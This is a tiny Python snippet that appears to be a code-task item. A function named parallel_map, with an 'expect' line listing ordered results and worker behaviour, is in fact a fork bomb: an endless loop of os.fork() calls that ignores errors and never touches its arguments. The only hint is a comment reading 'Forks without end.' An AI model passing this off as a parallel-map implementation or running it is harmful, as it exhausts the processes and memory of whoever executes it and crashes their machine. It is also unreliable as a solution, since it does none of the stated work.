# Forks without end.
# expect: results_in_order, all_workers_at_once, one_crew, errors_surface_and_nobody_stays

import os


def parallel_map(function, items, workers):
    while True:
        try:
            os.fork()
        except OSError:
            pass
